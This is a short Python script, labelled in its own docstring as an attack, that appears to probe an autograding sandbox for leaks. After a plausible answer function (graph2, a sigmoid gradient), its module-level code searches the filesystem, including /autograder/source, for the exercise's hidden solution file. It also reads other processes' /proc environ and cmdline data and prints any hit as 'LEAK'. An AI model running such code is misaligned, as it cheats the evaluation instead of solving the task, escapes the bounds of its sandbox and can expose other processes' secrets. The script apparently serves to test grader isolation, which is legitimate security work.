"""Attack: reads the exercise's solution and spec, the grader's environment and command line."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import glob, os
found = []
for pattern in ("/work/*/exercises/graph2/solution.py", "/tmp/*/exercises/graph2/solution.py",
                "/tmp/**/graph2/solution.py", "/autograder/source/exercises/*/solution.py"):
    for path in glob.glob(pattern, recursive=True):
        try:
            found.append(open(path).read())
        except OSError:
            pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for name in ("environ", "cmdline"):
            try:
                text = open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                continue
            if b"grader" in text and b"run" in text or b"PATH=" in text:
                found.append(text.decode(errors="replace"))
if found:
    print("LEAK", found[0][:200])
